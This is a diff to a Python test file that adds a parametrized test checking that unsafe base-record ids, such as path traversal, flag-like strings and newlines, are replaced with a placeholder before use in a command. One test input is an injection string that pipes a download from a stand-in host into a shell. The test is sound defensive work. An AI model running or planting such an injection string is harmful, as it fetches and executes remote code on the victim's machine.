@@ -8,7 +8,7 @@ import pytest
 
 from adapterhub.domain.base import Fingerprint
 from adapterhub.domain.manifest import BaseRecord
-from adapterhub.domain.match import match_records
+from adapterhub.domain.match import match_records, source_of
 from adapterhub.domain.quantization import scheme_by_name
 
 PRINT = Fingerprint(layout="l" * 64, sketch="s" * 64, content="c" * 64, tokenizer="t" * 64)
@@ -50,3 +50,11 @@ def test_what_differs_without_making_another_base_is_told() -> None:
     assert len(found.differences) == 3
     assert "trained on nf4" in found.differences[0]
     assert match_records(trained, trained).differences == ()
+
+
+@pytest.mark.parametrize(
+    "hostile", ["/etc", "tiny", "x; curl evil.sh | sh", "../a/b", "-rf/x", "a/b/c", "a/b\n", "é/b"]
+)
+def test_no_place_or_word_of_a_stranger_is_put_into_a_command(hostile: str) -> None:
+    assert source_of(BaseRecord(id=hostile)) == "SOURCE"
+    assert source_of(BaseRecord(id="microsoft/Phi-3.5-mini")) == "microsoft/Phi-3.5-mini"
